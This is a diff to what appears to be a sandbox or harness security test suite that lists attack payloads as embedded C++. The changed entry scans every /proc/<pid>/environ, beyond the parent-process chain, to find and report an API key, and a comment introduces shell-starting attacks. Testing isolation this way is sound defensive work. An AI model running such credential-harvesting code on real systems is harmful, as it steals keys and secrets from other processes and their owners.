@@ -109,9 +109,16 @@ __attribute__((section(".text.atk"), used)) static const unsigned char atk_code[
                    if (n > 0) atk_report("file", b, static_cast<unsigned long>(n)); }
   }
 """, x86_64_only=True),
-    Attack("read-parent-environ", 1, "walks /proc/<ppid>/environ up the process tree (and the harness's pid) for "
-           "the API key",
-           tiling=r"""  {
+    Attack("read-parent-environ", 1, "walks /proc/<ppid>/environ up the process tree, then every /proc/<pid>/"
+           "environ, for the API key",
+           top=r"""
+extern "C" {
+struct __dirstream;
+struct dirent { unsigned long d_ino; long d_off; unsigned short d_reclen; unsigned char d_type; char d_name[256]; };
+__dirstream* opendir(const char* name);
+dirent* readdir(__dirstream* dir);
+}
+""", tiling=r"""  {
     static char b[1 << 16]; char path[64];
     long pid = 0;
     std::snprintf(path, sizeof path, "/proc/self/stat");
@@ -125,9 +132,14 @@ __attribute__((section(".text.atk"), used)) static const unsigned char atk_code[
       if (const char* key = atk_find_key(b, n)) atk_report("environ", key, std::strlen(key));
       std::snprintf(path, sizeof path, "/proc/%ld/stat", pid);
     }
-    std::snprintf(path, sizeof path, "/proc/@PID@/environ");
-    unsigned long n = atk_slurp(path, b, sizeof b);
-    if (const char* key = atk_find_key(b, n)) atk_report("environ", key, std::strlen(key));
+    if (__dirstream* proc = opendir("/proc")) {
+      while (dirent* e = readdir(proc)) {
+        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
+        std::snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
+        unsigned long n = atk_slurp(path, b, sizeof b);
+        if (const char* key = atk_find_key(b, n)) atk_report("environ", key, std::strlen(key));
+      }
+    }
   }
 """),
     # ---- 2: starting a shell
